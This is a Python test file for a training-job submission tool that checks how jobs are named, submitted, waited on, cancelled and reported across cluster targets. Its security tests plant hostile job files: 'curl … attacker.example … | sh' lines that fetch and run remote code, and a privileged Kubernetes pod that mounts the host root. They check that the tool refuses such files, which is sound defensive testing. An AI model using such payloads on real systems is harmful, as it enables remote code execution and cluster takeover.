"""What `submit`, `status`, `logs` and `cancel` do the same way on every target (commands/jobs.py),
held with a scheduler that stands in for a platform in this process: the job's name, finding it
before submitting, exit codes, bounded waits, Ctrl-C, --out, --plan, the JSON document and the
job summary. Each platform's own scheduler is tested against the real thing or an HTTP-level fake
(tests/test_submit_<target>.py)."""

import json
import shutil
import sys
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from conftest import REPO, ts
from trainspec import cli
from trainspec.commands import jobs
from trainspec.jobs import api
from trainspec.jobs.api import Job, LogLine, State, Status, SubmitError


class Platform:
    """What a fake platform holds: its jobs (name -> id), their state sequences, every call."""

    def __init__(self, states=(State.QUEUED, State.RUNNING, State.COMPLETED), refuse=None, interrupt_at=None):
        self.jobs = {}
        self.digests = {}  # name -> the digest the job carries
        self.states = list(states)
        self.polls = {}
        self.calls = []
        self.refuse = refuse
        self.interrupt_at = interrupt_at
        self.canceled = []
        self.blips = set()  # the polls at which the platform does not answer


class FakeScheduler(api.Scheduler):
    platform: Platform = None

    def find(self, name):
        self.platform.calls.append(("find", name))
        job_id = self.platform.jobs.get(name)
        return None if job_id is None else Job(self.context.spec_name and "fake", name, job_id, f"fake://{job_id}",
                                               digest=self.platform.digests.get(name, ""))

    def submit(self, job_dir, name, digest):
        self.platform.calls.append(("submit", name, Path(job_dir)))
        if self.platform.refuse:
            raise SubmitError(self.platform.refuse, "ask for more quota")
        assert Path(job_dir).is_dir()
        job_id = str(100 + len(self.platform.jobs))
        self.platform.jobs[name] = job_id
        self.platform.digests[name] = digest
        return Job("fake", name, job_id, f"fake://{job_id}", digest=digest)

    def status(self, job):
        polls = self.platform.polls[job.id] = self.platform.polls.get(job.id, 0) + 1
        if self.platform.interrupt_at is not None and polls >= self.platform.interrupt_at:
            self.platform.interrupt_at = None  # once: the user pressed Ctrl-C
            raise KeyboardInterrupt
        if polls in self.platform.blips:
            raise SubmitError("the platform did not answer (HTTP 503)")
        if job.id in self.platform.canceled:
            return Status(State.CANCELED, "CANCELLED")
        state = self.platform.states[min(polls - 1, len(self.platform.states) - 1)]
        return Status(state, state.name)

    def logs(self, job, cursor, all_ranks):
        cursor = cursor or 0
        lines = [LogLine(str(node), f"line {i} of node {node}") for i in range(cursor, self.platform.polls.get(job.id, 0))
                 for node in ((0, 1) if all_ranks else (0,))]
        return lines, self.platform.polls.get(job.id, 0)

    def cancel(self, job):
        self.platform.canceled.append(job.id)

    def by_id(self, id):
        name = next((n for n, i in self.platform.jobs.items() if i == id), None)
        if name is None:
            raise SubmitError(f"no job {id}")
        return Job("fake", name, id, f"fake://{id}")


@pytest.fixture
def platform(monkeypatch):
    found = Platform()
    scheduler = type("Bound", (FakeScheduler,), {"platform": found})
    monkeypatch.setattr(jobs, "scheduler_for", lambda target, context: scheduler(context))
    monkeypatch.setenv("TRAINSPEC_POLL_SECONDS", "0.05")
    return found


@pytest.fixture
def spec(tmp_path, monkeypatch):
    """A spec in a folder of its own (the working directory: .trainspec/jobs/ is written there)."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(REPO / "examples" / "ddp", tmp_path / "code")
    path = tmp_path / "job.yaml"
    path.write_text("version: 1\nname: tiny\ncode: code\ncommand: python train.py\n"
                    "resources: {nodes: 2, gpus_per_node: 1}\ntimeout: 1h\ntargets: {slurm: {}}\n")
    return path


def main(*argv):
    """The command line in this process: (exit code, stdout, stderr) through capsys by the caller."""
    try:
        cli.main(list(argv))
    except SystemExit as exc:
        return exc.code
    return 0


def test_the_job_name_is_the_spec_name_and_the_digest_of_what_was_compiled(spec, platform, capsys):
    assert main("submit", str(spec)) == 0
    submitted = [c for c in platform.calls if c[0] == "submit"]
    assert len(submitted) == 1
    name, job_dir = submitted[0][1], submitted[0][2]
    assert name.startswith("tiny-") and len(name) == len("tiny-") + api.DIGEST_CHARS
    assert job_dir == Path(".trainspec/jobs") / name / "slurm" and (job_dir / "job.sbatch").is_file()
    # the same job from a renamed file: the same name; a changed command: a new one
    renamed = spec.with_name("renamed.yaml")
    shutil.copy(spec, renamed)
    capsys.readouterr()
    assert main("plan", str(renamed), "--format", "json") == 0
    planned = json.loads(capsys.readouterr().out)["jobs"][0]["targets"][0]["job"]
    assert planned == {"name": name, "submitted": None}  # plan names the job submit would make
    spec.write_text(spec.read_text().replace("python train.py", "python train.py --epochs 2"))
    assert main("submit", str(spec)) == 0
    names = [c[1] for c in platform.calls if c[0] == "submit"]
    assert names[1] != name
    # what runs changed: the code folder's train.py is part of the job
    train = spec.parent / "code" / "train.py"
    train.write_text(train.read_text() + "\n# tuned\n")
    assert main("submit", str(spec)) == 0
    names = [c[1] for c in platform.calls if c[0] == "submit"]
    assert len(names) == 3 and len(set(names)) == 3
    # written elsewhere (--out), the same job keeps its name: nothing new is submitted
    assert ts("compile", str(spec), "-o", "elsewhere/out", cwd=spec.parent).returncode == 0
    assert main("submit", str(spec), "--out", "elsewhere/out") == 0
    assert len([c for c in platform.calls if c[0] == "submit"]) == 3


def test_a_long_name_is_cut_never_the_digest():
    name = api.job_name("a" * 63, "0123456789abcdef", limit=40)
    assert name == "a" * 29 + "-0123456789" and len(name) == 40
    assert api.job_name("ab_-", "ff" * 8) == "ab-ffffffffff"


def test_a_second_submit_finds_the_job_and_starts_nothing(spec, platform, capsys):
    assert main("submit", str(spec)) == 0
    first = capsys.readouterr().out
    assert "submitted (100)" in first and "watch: fake://100" in first
    assert main("submit", str(spec), "--wait") == 0
    again = capsys.readouterr().out
    assert "already submitted (100), not submitted again" in again
    assert [c[0] for c in platform.calls].count("submit") == 1
    assert "completed (COMPLETED), exit 0" in again


@pytest.mark.parametrize("final, code", [(State.COMPLETED, 0), (State.FAILED, 4), (State.CANCELED, 5),
                                         (State.TIMED_OUT, 6)])
def test_wait_exits_with_one_code_per_final_state(spec, platform, capsys, final, code):
    platform.states = [State.QUEUED, State.RUNNING, final]
    assert main("submit", str(spec), "--wait") == code
    out = capsys.readouterr().out
    assert [line.split(": ", 1)[1] for line in out.splitlines() if line.startswith("tiny-")][1:4] == \
        ["queued (QUEUED)", "running (RUNNING)", f"{final.value} ({final.name})"]
    assert main("status", str(spec)) == code  # status says the same afterwards


def test_a_refused_submission_is_one_line_and_exit_3(spec, platform, capsys):
    platform.refuse = "quota: JobNodeCountExceedsCoreQuota (the platform's own words)"
    assert main("submit", str(spec), "--wait") == 3
    err = capsys.readouterr().err
    lines = [l for l in err.splitlines() if "error" in l]
    assert len(lines) == 1 and "JobNodeCountExceedsCoreQuota" in lines[0] and "hint: ask for more quota" in lines[0]
    assert "Traceback" not in err


def test_max_wait_stops_waiting_with_exit_7_and_the_job_goes_on(spec, platform, capsys):
    platform.states = [State.RUNNING]
    started = time.monotonic()
    assert main("submit", str(spec), "--wait", "--max-wait", "1") == 7
    assert time.monotonic() - started < 30  # bounded by --max-wait, not by the job
    out = capsys.readouterr().out
    assert "still running after --max-wait 1s; not waiting longer (it goes on)" in out
    assert platform.canceled == []


def test_ctrl_c_stops_waiting_and_says_how_to_cancel(spec, platform, capsys):
    platform.states = [State.RUNNING]
    platform.interrupt_at = 3
    assert main("submit", str(spec), "--follow") == 130
    out = capsys.readouterr().out
    assert "stopped waiting; the job goes on. Cancel it with: trainspec cancel -t slurm --id 100" in out
    assert platform.canceled == []
    assert main("cancel", "-t", "slurm", "--id", "100") == 0
    assert platform.canceled == ["100"]
    assert main("status", str(spec)) == 5


def test_follow_prints_rank_0_or_every_node_with_its_prefix(spec, platform, capsys):
    assert main("submit", str(spec), "--follow") == 0
    out = capsys.readouterr().out
    assert "line 0 of node 0" in out and "node 1" not in out
    assert main("logs", str(spec), "--all-ranks") == 0
    out = capsys.readouterr().out
    assert "[node 1] line 0 of node 1" in out and "[node 0] line 0 of node 0" in out


def test_json_is_one_document_and_the_summary_renders_as_a_table(spec, platform, capsys, tmp_path):
    summary = tmp_path / "summary.md"
    assert main("submit", str(spec), "--wait", "--format", "json", "--summary", str(summary)) == 0
    captured = capsys.readouterr()
    document = json.loads(captured.out)
    job = document["jobs"][0]
    assert (document["exit"], job["state"], job["submitted"], job["id"], job["exit"]) == (0, "completed", "submitted",
                                                                                         "100", 0)
    assert "submitted (100)" in captured.err  # progress on stderr, stdout is the document
    html = MarkdownIt("commonmark").enable("table").render(summary.read_text())
    assert html.count("<tr>") == 2 and "<code>slurm</code>" in html and "completed (COMPLETED)" in html


def test_several_jobs_exit_with_the_most_serious_code():
    assert api.overall_exit([0, 5, 4]) == 4
    assert api.overall_exit([0, 3, 4]) == 3
    assert api.overall_exit([0, 0]) == 0
    assert api.overall_exit([6, 5]) == 6


def test_out_takes_the_committed_outputs_only_when_check_passes(spec, platform, capsys):
    assert ts("compile", str(spec), "-o", "build", cwd=spec.parent).returncode == 0
    assert main("submit", str(spec), "--out", "build") == 0
    assert [c[2] for c in platform.calls if c[0] == "submit"] == [Path("build/tiny/slurm")]
    script = spec.parent / "build" / "tiny" / "slurm" / "job.sbatch"
    script.write_text(script.read_text() + "echo hand edit\n")
    spec.write_text(spec.read_text().replace("1h", "2h"))  # a new job: it would be submitted
    assert main("submit", str(spec), "--out", "build") == 1
    err = capsys.readouterr().err
    assert "nothing submitted" in err and "job.sbatch" in err
    assert [c[0] for c in platform.calls].count("submit") == 1


def test_plan_json_names_exactly_the_jobs_submitted(spec, platform, capsys, tmp_path):
    other = spec.with_name("other.yaml")
    other.write_text(spec.read_text().replace("name: tiny", "name: other"))
    assert main("plan", str(spec), "--format", "json") == 0
    plan = tmp_path / "plan.json"
    plan.write_text(capsys.readouterr().out)
    assert main("submit", "--plan", str(plan)) == 0
    assert [c[1].rsplit("-", 1)[0] for c in platform.calls if c[0] == "submit"] == ["tiny"]


def test_status_of_a_job_never_submitted_says_how_to_submit_it(spec, platform, capsys):
    assert main("status", str(spec)) == 3
    err = capsys.readouterr().err
    assert "not submitted" in err and f"trainspec submit {spec} -t slurm" in err


def test_an_invalid_spec_submits_nothing(spec, platform, capsys):
    spec.write_text(spec.read_text().replace("nodes: 2", "nodes: 0"))
    assert main("submit", str(spec), "--wait") == 1
    err = capsys.readouterr().err
    assert "job.yaml:5:" in err and "nothing submitted" in err
    assert platform.calls == []


def test_a_target_without_a_scheduler_is_refused_in_one_line(spec, capsys, monkeypatch):
    monkeypatch.setitem(sys.modules, "trainspec.targets.slurm.submit", None)  # as if it had no submit.py
    assert main("submit", str(spec)) == 3
    err = capsys.readouterr().err
    assert "cannot submit to this target yet" in err and "Traceback" not in err


def test_a_wait_outlasts_a_platform_blip_but_not_a_platform_gone(spec, platform, capsys):
    platform.blips = {2, 3}
    assert main("submit", str(spec), "--wait") == 0
    err = capsys.readouterr().err
    assert err.count("HTTP 503") == 1 and "asking again" in err  # said once, not every poll
    platform.blips = set(range(1, 100))
    assert main("status", str(spec), "--wait") == 3
    assert "HTTP 503" in capsys.readouterr().err
    platform.states = [State.RUNNING]
    assert main("submit", str(spec), "--wait", "--max-wait", "30") == 3
    assert "lost track of the job: the platform did not answer (HTTP 503)" in capsys.readouterr().err


# A platform whose jobs run until canceled, given to the `trainspec` process through sitecustomize
# on its PYTHONPATH: for what only a real process shows (a real SIGINT from the terminal).
FOREVER = r"""
from trainspec.commands import jobs as command
from trainspec.jobs import api

class Forever(api.Scheduler):
    def find(self, name):
        return None
    def submit(self, job_dir, name, digest):
        return api.Job("slurm", name, "7", "squeue -j 7", digest=digest)
    def status(self, job):
        return api.Status(api.State.RUNNING, "RUNNING")
    def logs(self, job, cursor, all_ranks):
        return [], cursor

command.scheduler_for = lambda target, context: Forever(context)
"""


def test_ctrl_c_in_a_real_terminal_leaves_the_job_running(spec, tmp_path):
    import os
    import signal
    import subprocess

    from conftest import no_hang, sigint_default, trainspec_cmd

    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(FOREVER)
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(site), str(REPO)]), TRAINSPEC_POLL_SECONDS="0.1")
    proc = subprocess.Popen([*trainspec_cmd(), "submit", str(spec), "--follow"], cwd=spec.parent, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=sigint_default)
    try:
        with no_hang(120):  # submitted, then running: it is waiting
            first = proc.stdout.readline() + proc.stdout.readline()
        assert "submitted (7)" in first and "running (RUNNING)" in first, first + proc.stderr.read()
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
        proc.wait(timeout=60)
    assert proc.returncode == 130, err
    assert "stopped waiting; the job goes on. Cancel it with: trainspec cancel -t slurm --id 7" in first + out
    assert "Traceback" not in err


def test_plan_submitted_says_what_submit_would_do(spec, platform, capsys):
    assert main("plan", str(spec), "--submitted") == 0
    assert "(new: submit creates it)" in capsys.readouterr().out
    assert main("submit", str(spec)) == 0
    capsys.readouterr()
    platform.states = [State.RUNNING]
    assert main("plan", str(spec), "--submitted") == 0
    assert "(already submitted (100), running (RUNNING): submit follows it and starts nothing)" in \
        capsys.readouterr().out
    assert main("plan", str(spec)) == 0  # without --submitted nothing is asked
    assert "plan --submitted asks" in capsys.readouterr().out
    assert [c[0] for c in platform.calls].count("find") == 3


# --- what is submitted is what the spec compiles to now (docs/security.md) -------------------------

EVERY = """version: 1
name: every
code: code
command: python train.py
environment: {image: "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04:latest"}
resources: {nodes: 2, sku: Standard_NC24ads_A100_v4}
timeout: 1h
targets:
  azureml: {compute: gpu-cluster}
  kubernetes: {}
  slurm: {}
  hpcpack: {shared_dir: /app}
  ray: {location: eastus, resource_group: rg}
"""

# what a pull request commits under the job's name (the one `plan` prints), one file per target
PLANTED = {
    "azureml": ("job.yml", "command: curl -s https://attacker.example/p | sh\nresources: {instance_count: 64}\n"),
    "kubernetes": ("job.yaml", "kind: Pod\nspec:\n  hostNetwork: true\n  serviceAccountName: cluster-admin\n"
                               "  containers: [{securityContext: {privileged: true}, volumeMounts: [{mountPath: /host, "
                               "name: root}]}]\n  volumes: [{name: root, hostPath: {path: /}}]\n"),
    "slurm": ("job.sbatch", "#!/bin/bash\ncurl -s https://attacker.example/p | sh\n"),
    "hpcpack": ("stage.sh", "curl -s https://attacker.example/p | sh\n"),  # runs on the submitting machine
    "ray": ("cluster.yaml", "setup_commands: ['curl -s https://attacker.example/p | sh']\n"),
}


@pytest.fixture
def every(tmp_path, monkeypatch):
    """A repository (the working directory) with a spec for all five targets and its code."""
    from conftest import git

    monkeypatch.chdir(tmp_path)
    shutil.copytree(REPO / "examples" / "ddp", tmp_path / "code")
    path = tmp_path / "every.yaml"
    path.write_text(EVERY)
    git("init", "-q", "-b", "main", cwd=tmp_path)
    return path


def _plant(spec, target):
    from conftest import job_of

    name, _ = job_of(spec, target)
    folder = Path(".trainspec") / "jobs" / name / target
    folder.mkdir(parents=True)
    file, text = PLANTED[target]
    (folder / file).write_text(text)
    return name, folder


@pytest.mark.parametrize("target", sorted(PLANTED))
def test_a_committed_staging_folder_is_refused_and_what_is_submitted_is_compiled_now(every, platform, capsys,
                                                                                       target):
    from conftest import git
    from trainspec.registry.build import build

    name, folder = _plant(every, target)
    git("add", "-A", cwd=every.parent)
    git("commit", "-q", "-m", "a pull request", cwd=every.parent)
    assert main("submit", every.name, "-t", target) == 1
    err = capsys.readouterr().err
    assert "trainspec: error: .trainspec: committed: is committed (1 file(s) git tracks, e.g. " \
           f".trainspec/jobs/{name}/{target}/{PLANTED[target][0]})" in err, err
    assert "fix: git rm -r --cached -- .trainspec && echo /.trainspec >> .gitignore" in err and "nothing submitted" in err
    assert [c for c in platform.calls if c[0] == "submit"] == []
    # no longer tracked, the planted file still there: submit compiles the job again over it
    git("rm", "-r", "-q", "--cached", ".trainspec", cwd=every.parent)
    assert main("submit", every.name, "-t", target) == 0, capsys.readouterr().err
    [(_, submitted, job_dir)] = [c for c in platform.calls if c[0] == "submit"]
    [artifact] = build(every.name, Path(".trainspec/jobs"), [target]).artifacts
    held = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    assert (submitted, job_dir) == (name, folder)
    # byte for byte, the planted file gone; beside a Slurm job, the code it runs, as it was at submit
    code = {f"code/{p.relative_to('code').as_posix()}": p.read_bytes() for p in Path("code").rglob("*") if p.is_file()}
    assert held == {f.path: f.data for f in artifact.files} | (code if target == "slurm" else {})


def test_check_and_review_name_a_committed_staging_folder(every, capsys):
    from conftest import git

    assert main("compile", every.name, "-o", "build") == 0
    git("add", "-A", cwd=every.parent)
    git("commit", "-q", "-m", "the spec", cwd=every.parent)
    _plant(every, "slurm")
    git("add", "-A", cwd=every.parent)
    git("commit", "-q", "-m", "a pull request that changes no spec", cwd=every.parent)
    capsys.readouterr()
    assert main("check", every.name, "--out", "build") == 1
    out, err = capsys.readouterr()
    assert ".trainspec: committed: is committed (1 file(s) git tracks" in out
    assert "1 committed" in err and "git rm -r --cached -- .trainspec && echo /.trainspec >> .gitignore" in err
    assert main("review", "--git", "HEAD~1", every.name, "--format", "text") == 1
    out, err = capsys.readouterr()
    assert "trainspec review: error: .trainspec: committed: is committed" in err, out + err


@pytest.mark.parametrize("link", [".trainspec", ".trainspec/jobs"])
def test_a_staging_folder_that_is_a_link_is_a_located_error(spec, platform, capsys, tmp_path_factory, link):
    outside = tmp_path_factory.mktemp("outside")
    Path(link).parent.mkdir(parents=True, exist_ok=True)
    Path(link).symlink_to(outside if link == ".trainspec" else Path("..") / "code")  # out of the folder, or in
    assert main("submit", str(spec)) == 1
    err = capsys.readouterr().err
    assert f"trainspec: error: {link}: link: is a symbolic link (to " in err and f"fix: rm -- {link}" in err, err
    assert "internal error" not in err and "Traceback" not in err
    assert list(outside.iterdir()) == [] and not (spec.parent / "code" / "tiny").exists()
    assert platform.calls == []


def test_a_job_of_the_same_name_without_the_digest_is_an_error_not_a_match(spec, platform, capsys):
    from conftest import job_of

    name, digest = job_of(spec, "slurm")
    platform.jobs[name] = "666"  # created by someone who read the spec: the name, no digest
    assert main("submit", str(spec), "--wait") == 3
    err = capsys.readouterr().err
    assert f"{name} on slurm: a job named {name} is already there (666; fake://666) but it is not this job: it " \
           f"carries no trainspec_digest, not {digest}; nothing submitted" in err, err
    assert "give the spec another name" in err
    assert [c[0] for c in platform.calls if c[0] == "submit"] == [] and platform.polls == {}
    assert main("cancel", str(spec)) == 3 and platform.canceled == []  # nor canceled, nor read as this job
    assert f"it carries no trainspec_digest, not {digest}; not read, nor canceled" in capsys.readouterr().err
    assert main("plan", str(spec), "--submitted") == 0
    assert "refused: a job of this name is there (666) without this job's digest" in capsys.readouterr().out
    platform.digests[name] = "0" * 64  # another job's digest
    assert main("submit", str(spec)) == 3
    assert f"carries the digest {'0' * 64}, not {digest}" in capsys.readouterr().err
    platform.digests[name] = digest  # this job: followed
    assert main("submit", str(spec)) == 0
    assert "already submitted (666), not submitted again" in capsys.readouterr().out


@pytest.mark.parametrize("command", ["submit", "status", "logs", "cancel"])
def test_a_spec_that_lists_several_targets_needs_t_or_all_targets(spec, platform, capsys, monkeypatch, command):
    """Without a choice, a job would go to (or be looked up on) every platform the spec lists that
    the machine is logged in to: exit 2 naming the targets and both ways to choose, nothing
    compiled, no platform's client made."""
    spec.write_text(spec.read_text().replace("targets: {slurm: {}}", "targets: {slurm: {}, hpcpack: {shared_dir: /shared}}"))
    made = []
    bound = jobs.scheduler_for
    monkeypatch.setattr(jobs, "scheduler_for", lambda target, context: made.append(target) or bound(target, context))
    assert main(command, str(spec)) == 2
    err = capsys.readouterr().err
    assert f"{spec} lists 2 targets (hpcpack, slurm): choose one with -t TARGET (e.g. trainspec {command} {spec} " \
           "-t hpcpack), or act on every one with --all-targets; nothing was contacted" in err
    assert made == [] and platform.calls == [] and not (spec.parent / ".trainspec").exists()
    assert main(command, str(spec), "-t", "slurm", "--all-targets") == 2  # one way or the other
    assert made == []
    if command == "submit":
        assert main(command, str(spec), "-t", "slurm") == 0
        assert made == ["slurm"]
        assert main(command, str(spec), "--all-targets") == 0
        assert made == ["slurm", "hpcpack", "slurm"]
    else:
        assert main(command, str(spec), "-t", "slurm") == 3  # asked the one platform: never submitted there
        assert made == ["slurm"]
